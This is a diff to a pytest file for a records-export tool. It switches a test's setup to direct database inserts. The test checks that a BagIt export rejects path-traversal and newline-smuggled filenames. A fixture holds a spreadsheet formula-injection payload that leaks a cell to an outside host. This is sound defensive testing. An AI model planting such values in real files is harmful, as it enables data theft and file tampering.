@@ -7,6 +7,7 @@ More of it stands in tests/test_text_is_text.py (markup, ANSI, bidi), in tests/r
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
 import json
 import os
@@ -17,6 +18,9 @@ from pathlib import Path
 import pytest
 from faults.extent import often
 from program import Run
+
+from foiakit.record import Record
+from foiakit.store import Store
 
 HOSTILE = {
     "formula": "=HYPERLINK(\"http://example.org/?\"&A1,\"look\")",
@@ -133,9 +137,10 @@ def test_a_bag_takes_nothing_outside_of_itself_and_no_line_into_its_manifest(
     names = ["../../a\n0000  data/b.pdf", "a.pd\nf", "pipe", ".", "doc.pdf/../doc.pdf"]
     os.mkfifo("pipe")
     Path("a.pd\nf").write_text("x")
-    rows = [{"title": str(at), "file": name} for at, name in enumerate(names)]
-    Path("in.json").write_text(json.dumps(rows))
-    assert desk("import", "-q", "in.json").code == 0
+    digest = hashlib.sha256(b"x").hexdigest()
+    with Store.write("records.db", create=True) as store, store.transaction():
+        for at, name in enumerate(names):
+            store.add(Record(title=str(at), file=name, sha256=digest))
     inside = set(here.iterdir())
     done = desk("export", "--format", "bagit", "-o", "bag")
     assert done.code == 0, done.err
